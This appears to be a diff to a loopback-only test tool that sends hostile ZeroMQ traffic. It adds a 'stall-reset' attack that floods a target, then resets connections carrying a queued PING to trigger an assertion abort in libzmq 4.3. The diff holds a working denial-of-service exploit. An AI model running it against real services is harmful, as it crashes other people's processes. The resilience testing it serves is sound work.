@@ -15,6 +15,12 @@ Kinds:
   once it is whole), 60 KB parts of one multipart message whose last part never comes, until
   `--bytes` are sent, `--seconds` pass or the target cuts the connection. Plaintext only: a CURVE
   target refuses the NULL handshake.
+- stall-reset: over plain TCP as well, against libzmq 4.3's `Assertion failed: !_io_error`: one
+  connection floods small messages so that the target reads no faster than its budget; others,
+  one after another, each send a few more messages than the target's queue holds (`--frames`)
+  and a ZMTP PING command in the same segment, then reset the connection. The engine stops
+  reading at the full queue, the reset marks it broken, and once the target reads the queue the
+  engine decodes the PING and answers it on the broken connection: libzmq aborts the process.
 
 Only loopback targets are accepted: this is a test tool.
 """
@@ -74,25 +80,37 @@ def _read_exactly(connection: pysocket.socket, count: int) -> bytes:
     return data
 
 
-def unfinished(target: str, max_bytes: int, seconds: float) -> dict:
-    """One multipart message, never finished (see the module's docstring)."""
+def _zmtp_connection(target: str) -> pysocket.socket:
+    """A plain TCP connection that has done ZMTP 3.0's NULL handshake as a DEALER."""
     host, port = target.removeprefix("tcp://").rsplit(":", 1)
     connection = pysocket.create_connection((host.strip("[]"), int(port)), timeout=5)
+    connection.setsockopt(pysocket.IPPROTO_TCP, pysocket.TCP_NODELAY, 1)
     greeting = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + bytes(31)
     ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
+    connection.sendall(greeting + bytes([0x04, len(ready)]) + ready)
+    # Messages before the handshake is over (the target's ZAP handler answers first) would be a
+    # protocol error: wait for the target's greeting and READY.
+    _read_exactly(connection, 64)
+    flags, size = _read_exactly(connection, 2)
+    _read_exactly(
+        connection,
+        size if not flags & 0x02 else struct.unpack(">Q", bytes([size]) + _read_exactly(connection, 7))[0],
+    )
+    return connection
+
+
+def _reset(connection: pysocket.socket) -> None:
+    connection.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_LINGER, struct.pack("ii", 1, 0))
+    connection.close()  # SO_LINGER 0: an RST, not a FIN
+
+
+def unfinished(target: str, max_bytes: int, seconds: float) -> dict:
+    """One multipart message, never finished (see the module's docstring)."""
     part = _NOISE[:60_000]
     header = b"\x03" + struct.pack(">Q", len(part))  # MORE | LONG
     sent, parts, reset, started = 0, 0, False, time.perf_counter()
+    connection = _zmtp_connection(target)
     try:
-        connection.sendall(greeting + bytes([0x04, len(ready)]) + ready)
-        # Parts before the handshake is over (the target's ZAP handler answers first) would be
-        # a protocol error: wait for the target's greeting and READY.
-        _read_exactly(connection, 64)
-        flags, size = _read_exactly(connection, 2)
-        _read_exactly(
-            connection,
-            size if not flags & 0x02 else struct.unpack(">Q", bytes([size]) + _read_exactly(connection, 7))[0],
-        )
         while sent < max_bytes and time.perf_counter() - started < seconds:
             connection.sendall(header + part)
             sent += len(header) + len(part)
@@ -104,6 +122,32 @@ def unfinished(target: str, max_bytes: int, seconds: float) -> dict:
     finally:
         connection.close()
     return {"sent": parts, "bytes": sent, "reset": reset, "seconds": round(time.perf_counter() - started, 3)}
+
+
+def stall_reset(target: str, frames: int, seconds: float) -> dict:
+    """See the module's docstring; `frames`: messages before the PING on each resetting connection."""
+    message = b"\x00\x28" + _NOISE[:40]  # a 40-byte message
+    ping = b"\x04\x09\x04PING" + struct.pack(">H", 10) + b"ab"  # command: name, TTL, context
+    flooding, resets, started = _zmtp_connection(target), 0, time.perf_counter()
+    flooding.setblocking(False)
+    try:
+        while time.perf_counter() - started < seconds:
+            try:
+                flooding.send(message * 100)
+            except BlockingIOError:
+                pass  # the target reads no faster than its budget: its queue and ours are full
+            try:
+                victim = _zmtp_connection(target)
+            except OSError:  # the target is gone
+                break
+            victim.sendall(message * frames + ping)
+            time.sleep(0.001 * (1 + resets % 4))  # the target's engine reads it, its reader not yet
+            _reset(victim)
+            resets += 1
+            time.sleep(0.05)
+    finally:
+        _reset(flooding)
+    return {"sent": resets, "seconds": round(time.perf_counter() - started, 3)}
 
 
 def run(
@@ -170,11 +214,12 @@ def run(
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m tools.attack", description=__doc__.split("\n")[0])
     parser.add_argument("--target", required=True, type=_loopback)
-    parser.add_argument("--kind", choices=("garbage", "strangers", "unfinished"), required=True)
+    parser.add_argument("--kind", choices=("garbage", "strangers", "unfinished", "stall-reset"), required=True)
     parser.add_argument("--connections", type=int, default=1)
     parser.add_argument("--rate", type=float, default=0.0, help="messages per second in all (0: as fast as possible)")
     parser.add_argument("--seconds", type=float, default=5.0)
     parser.add_argument("--frames-per-key", type=int, help="default: enough that each connection keeps one key")
+    parser.add_argument("--frames", type=int, default=6, help="stall-reset: messages before the PING")
     parser.add_argument("--network", default=_NETWORK_DEFAULT)
     parser.add_argument("--sizes", type=int, nargs="+", default=GARBAGE_SIZES, help="garbage message sizes")
     parser.add_argument("--bytes", type=int, default=200 << 20, help="unfinished: bytes of parts to send")
@@ -184,6 +229,9 @@ def main(argv: list[str] | None = None) -> int:
     args = parser.parse_args(argv)
     if args.kind == "unfinished":
         print(json.dumps(unfinished(args.target, args.bytes, args.seconds)), flush=True)
+        return 0
+    if args.kind == "stall-reset":
+        print(json.dumps(stall_reset(args.target, args.frames, args.seconds)), flush=True)
         return 0
     if args.frames_per_key is None:
         planned = args.rate * args.seconds if args.rate else 20_000
